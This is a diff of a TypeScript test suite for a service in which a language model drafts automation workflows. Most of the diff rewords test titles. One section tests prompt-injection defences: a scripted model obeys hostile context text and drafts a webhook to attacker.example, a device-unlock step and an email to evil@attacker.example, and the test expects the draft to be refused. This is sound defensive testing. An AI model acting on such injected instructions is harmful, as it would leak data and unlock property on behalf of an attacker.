@@ -44,7 +44,7 @@ describe.each(doorNames)('over %s', (door) => {
   const ask = (operation: string, input: object, key = world.key) =>
     doors(world.service)[door].as(key).ask(operation, input);
 
-  it('create_workflow yields a draft that does nothing, and says in plain words what it would', async () => {
+  it('create_workflow creates a draft that does nothing, and describes in plain words what it would do', async () => {
     const { status, body } = await ask('create_workflow', { instruction: 'Have moved stays cleaned' });
     expect([status, body.data.operation]).toEqual([202, 'create_workflow']);
     const { status: end, result } = await world.ended(body.data.id);
@@ -59,7 +59,7 @@ describe.each(doorNames)('over %s', (door) => {
     expect(made.versions).toMatchObject([{ origin: 'model' }]);
   });
 
-  it('modify_workflow yields a new version and a diff, and what is active continues', async () => {
+  it('modify_workflow creates a new version and a diff, and the active one continues', async () => {
     const workflowId = await workflowOf(api());
     await api().post(`/workflows/${workflowId}/activate`);
     const { status, body } = await ask('modify_workflow', { workflowId, instruction: 'Only confirmed ones' });
@@ -77,7 +77,7 @@ describe.each(doorNames)('over %s', (door) => {
     await api().post(`/workflows/${workflowId}/archive`);
   });
 
-  it('rejects what cannot come to anything, and asks no model', async () => {
+  it('rejects a request that cannot succeed, and asks no model', async () => {
     const workflowId = await workflowOf(api());
     await api().post(`/workflows/${workflowId}/archive`);
     const input = { workflowId, instruction: 'x' };
@@ -88,13 +88,13 @@ describe.each(doorNames)('over %s', (door) => {
   });
 });
 
-it('holds a model to so tight a schema that whatever fits it is a workflow', async () => {
+it('gives the model a schema so strict that everything that matches it is a workflow', async () => {
   world.model.script(sample);
   const { status, result } = await generate();
   expect([status, result.draft.steps[0].operation]).toEqual(['succeeded', 'createTask']);
 });
 
-describe('what a model writes', () => {
+describe("a model's workflow", () => {
   const absent = 'property_01900000000070008000000000000000';
   it.each([
     ['does what was not planned', withStep({ kind: 'operation', operation: 'startTask', input: {} }), 'steps'],
@@ -109,13 +109,13 @@ describe('what a model writes', () => {
       { ...written, conditions: { match: 'all', rules: [{ field: 'event.data.x', operator: 'exists', value: true }] } },
       'field',
     ],
-  ])('and %s is put right', async (_, wrong, message) => {
+  ])('is corrected if it %s', async (_, wrong, message) => {
     world.model.script(...answers(plan, wrong, written));
     expect(await generate()).toMatchObject({ status: 'succeeded', result: { draft: { trigger: written.trigger } } });
     expect(world.corrections()).toEqual([expect.stringContaining(message)]);
   });
 
-  it('and never put right is not saved', async () => {
+  it('is not saved if it is never corrected', async () => {
     const count = async (): Promise<number> => (await api().get('/workflows?limit=100')).body.data.length;
     const before = await count();
     world.model.script(...answers(plan, withInput({})));
@@ -123,7 +123,7 @@ describe('what a model writes', () => {
     expect([job.status, job.error.code, await count()]).toEqual(['failed', 'DRAFT_REFUSED', before]);
   });
 
-  it('needs what the caller may do', async () => {
+  it('requires the permissions of the caller', async () => {
     const failure = async (scopes: string[]): Promise<string> => {
       const { key } = await keyWith(api(), { scopes: ['workflows:write', ...scopes] });
       const asked = await api().as(key).post('/workflows/generate', { instruction: 'Have moved stays cleaned' });
@@ -134,7 +134,7 @@ describe('what a model writes', () => {
     expect(world.corrections()[0]).toContain('does.0');
   });
 
-  it('tells addresses that the instruction names, and no others', async () => {
+  it('contacts only addresses that the instruction names', async () => {
     const webhook = { trigger: 'reservation.moved', does: ['webhook'] };
     const toUrl = (url: string): object => withStep({ kind: 'webhook', url });
     const instruction = 'Tell https://board.example/hook, and nobody else.';
@@ -144,8 +144,8 @@ describe('what a model writes', () => {
   });
 });
 
-describe.each(sampled(hostileTexts, 3))('a text that says %s', (context) => {
-  it('is shown as material, and not before it is settled what is done', async () => {
+describe.each(sampled(hostileTexts, 3))('a text with the instruction %s', (context) => {
+  it('is passed as data, and only after the actions are decided', async () => {
     const webhook = withStep({ kind: 'webhook', url: 'https://attacker.example/login' });
     const unlock = withStep({
       kind: 'operation',
@@ -153,7 +153,7 @@ describe.each(sampled(hostileTexts, 3))('a text that says %s', (context) => {
       input: { deviceId: '{{event.subject.id}}' },
     });
     const mail = withStep({ kind: 'send_email', templateId: 'template_0', to: 'evil@attacker.example' });
-    // A model that does as it is told by whoever speaks last.
+    // A model that follows the last instruction that it reads.
     world.model.script(...answers(plan, webhook, unlock, mail));
     expect((await generate({ context })).error.code).toBe('DRAFT_REFUSED');
     const [planning, ...drafting] = world.model.asked as Json[];
@@ -167,7 +167,7 @@ describe.each(sampled(hostileTexts, 3))('a text that says %s', (context) => {
   });
 });
 
-it('modifying shows the model what is there as material, and lets it continue doing that', async () => {
+it('is passed as data with the existing workflow, which keeps its actions', async () => {
   const hostile = hostileTexts[0] as string;
   const id = await workflowOf(api(), {
     name: hostile,
